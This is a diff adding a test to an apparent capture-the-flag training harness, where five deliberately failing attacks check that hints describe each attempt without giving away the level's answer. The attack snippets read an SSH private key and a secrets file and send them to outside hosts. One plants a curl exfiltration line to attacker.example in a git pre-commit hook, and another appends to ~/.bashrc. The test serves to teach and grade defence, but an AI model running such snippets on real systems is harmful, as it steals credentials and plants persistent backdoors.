@@ -170,3 +170,51 @@ def test_autograde_awards_nothing_for_a_run_that_could_not_be_judged_and_says_so
     out = cells["capture-the-flag-l01-captured"].outputs[0]
     assert out["output_type"] == "error" and "could not grade" in out["evalue"] and "cut off" in out["evalue"]
     assert "not captured" not in out["evalue"] and "Hint" not in out["evalue"]
+
+
+# --- issue 41: each miss is told what this attack did, and no number of misses gives the answer -------------
+
+_HOOK = "/project/.git/hooks/pre-commit"
+WRONG_ATTACKS: list[tuple[str, str, str, tuple[str, ...]]] = [
+    # (level id, why it is wrong, the attack, words its hint must say about what it did)
+    ("secure-npm", "a DNS lookup in a sandbox with no name server",
+     "import socket\nsocket.gethostbyname('k3y.attacker.example')\n",
+     ("name lookup failed inside the sandbox", "no name server", "$HTTPS_PROXY")),
+    ("secure-npm", "a POST to a host the policy does not allow",
+     "import urllib.request\nkey = open('/home/user/.ssh/id_rsa', 'rb').read()\n"
+     "urllib.request.urlopen(urllib.request.Request('https://gist.github.com/', data=key), timeout=5)\n",
+     ("The proxy refused gist.github.com", "not in the allowed list")),
+    ("naive-gist", "a POST to an allowed name that no host has",
+     "import urllib.request\nsecret = open('/etc/secrets/db_password', 'rb').read()\n"
+     "try:\n    urllib.request.urlopen(urllib.request.Request('https://www.github.com/', data=secret), timeout=5)\n"
+     "except Exception as exc:\n    print('failed:', exc)\n",
+     ("www.github.com reached the proxy, which allows it", "no such host exists in this world", "502")),
+    ("persistence", "a curl backdoor, in a next session that has no curl",
+     f"shebang, rest = open({_HOOK!r}).read().split('\\n', 1)\n"
+     f"open({_HOOK!r}, 'w').write(shebang + '\\ncurl -s -d @/home/user/.ssh/id_rsa https://attacker.example/\\n' + rest)\n",
+     (f"Your change to {_HOOK} ran at the next git commit in /project", "sent nothing anywhere", "curl", "not found")),
+    ("persistence", "a backdoor in the home's ~/.bashrc, which srt keeps read-only",
+     "open('/home/user/.bashrc', 'a').write('python3 -c \"print(1)\"\\n')\n",
+     ("write to /home/user/.bashrc was refused", "Read-only file system", "No start-up file changed")),
+]
+
+
+def test_five_wrong_attacks_on_three_levels_each_get_a_hint_naming_what_they_did_and_never_the_answer(
+        docker_backend: Any, no_leftovers: None) -> None:
+    """The hint is read from each run's own trace (the proxy's log, the attack's failed lookup or write, the next
+    session's output), attempts pile up, and however many there were, no hint holds the level's solution."""
+    seen: list[tuple[str, str]] = []
+    for n, (level_id, why, code, words) in enumerate(WRONG_ATTACKS):
+        lv = level(level_id)
+        assert lv.solution is not None
+        result = attack(lv, code, docker_backend, attempts_before=n + 2)  # many misses before: nudges, never the answer
+        assert result.captured is False and not result.note, (why, result.note, result.output[-2000:])
+        assert result.hint_from == "evidence", (why, result.hint, result.output[-2000:])
+        for w in words:
+            assert w in result.hint, (why, w, result.hint, result.output[-2000:])
+        for text in (lv.solution.answer, lv.solution.channel, *lv.solution.also):
+            assert text not in result.hint, (why, result.hint)
+        assert result.nudge in lv.hints, (why, result.nudge)
+        assert "id_rsa, but nothing" not in result.hint, "the planted flag is no change of the attack's"
+        seen.append((level_id, result.hint))
+    assert len({h for _, h in seen}) == len(WRONG_ATTACKS), "each attack got its own hint"
